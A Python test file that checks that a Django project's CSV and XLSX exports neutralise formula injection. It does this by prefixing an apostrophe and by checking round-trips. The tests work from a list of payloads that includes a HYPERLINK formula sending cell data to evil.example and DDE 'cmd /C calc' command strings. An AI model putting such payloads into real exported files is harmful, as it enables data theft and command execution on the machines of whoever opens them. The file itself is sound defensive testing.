"""Issue 9, finding 6: exported cells that start like a formula are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tepai.core.importing.exporting import (
    Cell,
    escape_formula,
    unescape_formula,
    write_csv,
    write_xlsx,
)
from tepai.testing.factories import make_enterprise

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_cli_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
    for number, attack in enumerate(ATTACKS):
        make_enterprise(f"企业{number}", description=attack)
    path = tmp_path / "enterprises.csv"
    call_command("export", "enterprises", "-o", str(path), "--format", "csv", stderr=StringIO())

    rows = _csv_cells(path.read_bytes())
    column = rows[0].index("企业简介")
    cells = sorted(row[column] for row in rows[1:])
    assert cells == sorted("'" + attack for attack in ATTACKS)
    for cell in cells:
        assert cell.startswith("'")


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_cells_get_an_apostrophe_that_comes_off_again(attack: str) -> None:
    [_header, [cell]] = _csv_cells(write_csv(["A"], [[attack]]))
    assert cell == "'" + attack
    assert unescape_formula(cell) == attack


@pytest.mark.parametrize("value", ["-12.5", "-3", "0", "138****1234", "普通文字", "'引号开头", ""])
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    assert escape_formula(value) == value
    assert unescape_formula(value) == value
    assert escape_formula(-12) == -12


def test_text_already_starting_with_an_apostrophe_survives_the_round_trip() -> None:
    for value in ("'=1+1", "''-x", "'普通"):
        assert unescape_formula(str(escape_formula(value))) == value


def test_xlsx_writes_formula_like_text_as_quoted_strings_never_formulas() -> None:
    rows: list[list[Cell]] = [[*ATTACKS, "-12.5", 5, "普通"]]
    headers = [f"C{index}" for index in range(len(rows[0]))]
    sheet = load_workbook(io.BytesIO(write_xlsx(headers, rows))).worksheets[0]
    [cells] = list(sheet.iter_rows(min_row=2))

    for cell, attack in zip(cells, ATTACKS, strict=False):
        # openpyxl would store "=…" as a formula; as a string it reads back unchanged.
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel's own mark for text typed as '=…: never evaluated
        # A lone CR comes back as written or as LF, by whether the XML writer escaped it
        # (lxml 6 writes &#13;): either way the text is the attack's, never a formula.
        assert cell.value in (attack, attack.replace("\r", "\n"))
    assert [cell.quotePrefix for cell in cells[len(ATTACKS) :]] == [False, False, False]
    assert cells[len(ATTACKS) + 1].value == 5


@pytest.mark.parametrize("attack", [a for a in ATTACKS if not a[0].isspace()])
def test_an_exported_csv_reads_back_as_the_original_text(attack: str) -> None:
    from tepai.core.importing.reader import read_table

    table = read_table(io.BytesIO(write_csv(["A"], [[attack]])), filename="export.csv")
    assert [row.cells for row in table.rows] == [{"A": attack}]
